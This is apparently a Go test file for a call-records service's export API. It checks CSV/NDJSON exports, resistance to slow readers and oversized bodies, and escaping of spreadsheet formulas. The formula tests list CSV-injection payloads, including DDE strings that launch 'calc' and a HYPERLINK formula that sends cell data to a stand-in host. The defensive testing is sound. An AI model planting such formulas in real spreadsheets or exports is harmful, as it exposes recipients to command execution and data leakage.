package api_test

import (
	"bufio"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"strings"
	"testing"
	"time"

	"pgregory.net/rapid"

	"github.com/tingcha/tingcha/outgoing"
	"github.com/tingcha/tingcha/storage"
	"github.com/tingcha/tingcha/storage/storagetest"
	"github.com/tingcha/tingcha/web/api"
)

func TestExportsHaveAllThatTheListsHave(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	s.confirm(s.findings(storage.FindingFilter{})[0])
	token := s.everything()
	for what, want := range map[string]int{"findings": 2 * sampleCalls, "calls": sampleCalls, "verdicts": 1, "coverage": 1, "findings?status=confirmed": 1, "calls?state=dead": 0} {
		name, query, _ := strings.Cut(what, "?")
		lines := s.get(token, "/export/"+name+"?"+query)
		n := 0
		for line := range strings.Lines(lines.body) {
			if n++; !json.Valid([]byte(line)) {
				t.Errorf("%s: no JSON: %s", what, line)
			}
		}
		sheet := s.get(token, "/export/"+name+"?format=csv&"+query)
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(sheet.body, "\ufeff"))).ReadAll()
		if err != nil || n != want || len(rows) != want+1 {
			t.Errorf("%s: %d lines and %d rows under a header, %v, want %d", what, n, len(rows)-1, err, want)
		}
		if lines.header.Get("Content-Type") != "application/x-ndjson" || sheet.header.Get("Content-Type") != "text/csv; charset=utf-8" || !strings.Contains(sheet.header.Get("Content-Disposition"), name+"-2026") {
			t.Errorf("%s: %v and %v", what, lines.header, sheet.header)
		}
	}
}

// formulas are what a spreadsheet might run.
func formulas() []string {
	var all []string
	for _, first := range []string{"=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "|", "%", "−", "–"} {
		for _, before := range []string{"", " ", "\t", "\r", "\n", "\u00a0", "\u3000", "\u200b", "\ufeff", "'", "\"", ";", ",", "\x00", "\u2800"} {
			all = append(all, before+first+"cmd|' /C calc'!A0", before+first+before+"1+1")
		}
	}
	return append(all, "=HYPERLINK(\"http://x/?\"&A1,\"按此\")", "-2+3+cmd|' /C calc'!D2", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1", "\r=1", "=1\n", "+861380000", "-", "=", "--5", "-5-3", "-5e3", "=-5", "-0x1F", "\tx")
}

func TestNoCellBeginsAFormula(t *testing.T) {
	t.Parallel()
	if n := len(formulas()); n < 60 {
		t.Fatalf("%d texts, want 60", n)
	}
	for _, text := range formulas() {
		if got := outgoing.Cell(text); !strings.HasPrefix(got, "'") {
			t.Errorf("%q stays %q", text, got)
		}
	}
	for _, text := range []string{"", "-5", "0", "-0.75", "12.5", "2026-09-03", "我要投诉", "a=b", "c-1", "三部", "call-000001", "true", "5 stars"} {
		if got := outgoing.Cell(text); got != text {
			t.Errorf("%q becomes %q", text, got)
		}
	}
}

// TestATableIsReadBackAsItWasWritten puts any text through a table.
func TestATableIsReadBackAsItWasWritten(t *testing.T) {
	t.Parallel()
	rapid.Check(t, func(t *rapid.T) {
		text := rapid.String().Draw(t, "text")
		got := outgoing.Cell(text)
		if clean := strings.ReplaceAll(text, "\x00", "\ufffd"); got != clean && got != "'"+clean {
			t.Fatalf("%q becomes %q", text, got)
		}
		if got != "" && strings.ContainsRune("=+@\t\r", rune(got[0])) {
			t.Fatalf("%q begins a formula", got)
		}
	})
}

func TestFormulasInRecordsStayTexts(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	evil := storagetest.OneCall("=1+1")
	evil.Calls[0].Call.Agent, evil.Calls[0].Call.Dept = "+cmd|' /C calc'!A0", "＝HYPERLINK(\"x\")"
	if _, err := s.store.Ingest(t.Context(), evil); err != nil {
		t.Fatal(err)
	}
	r := s.get(s.everything(), "/export/calls?format=csv")
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(r.body, "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	met := 0
	for _, row := range rows {
		for _, cell := range row {
			if strings.HasPrefix(cell, "'") {
				met++
			}
			if cell != "" && strings.ContainsAny(cell[:1], "=+@") {
				t.Errorf("cell %q", cell)
			}
		}
	}
	if met != 3 {
		t.Errorf("%d cells were made harmless, want 3", met)
	}
}

// TestAReaderThatStallsHoldsUpNobody opens exports and reads nothing of them.
func TestAReaderThatStallsHoldsUpNobody(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	token := s.everything()
	host := strings.TrimSuffix(strings.TrimPrefix(s.url, "http://"), api.Prefix)
	for range 10 {
		c, err := new(net.Dialer).DialContext(t.Context(), "tcp", host)
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { _ = c.Close() })
		fmt.Fprintf(c, "GET %s/export/findings HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\n\r\n", api.Prefix, token)
	}
	began := time.Now()
	if r := s.get(token, "/calls"); r.status != http.StatusOK {
		t.Errorf("status %d", r.status)
	}
	if took := time.Since(began); took > 5*time.Second {
		t.Errorf("another reader waits %v", took)
	}
}

// TestABodyThatNeverEndsIsCutOff sends more than is taken.
func TestABodyThatNeverEndsIsCutOff(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	token := s.everything()
	for path, size := range map[string]int{"/intake/calls": 9 << 20, "/findings/x/verdicts": 70 << 10} {
		r, err := http.NewRequestWithContext(t.Context(), http.MethodPost, s.url+path, bufio.NewReader(bytes.NewReader(make([]byte, size))))
		if err != nil {
			t.Fatal(err)
		}
		r.Header.Set("Authorization", "Bearer "+token)
		r.Header.Set("Content-Type", "application/json")
		answer, err := http.DefaultClient.Do(r)
		if err != nil {
			continue // cut off while it was being sent
		}
		answer.Body.Close()
		if answer.StatusCode != http.StatusRequestEntityTooLarge {
			t.Errorf("%s with %d bytes: status %d", path, size, answer.StatusCode)
		}
	}
}
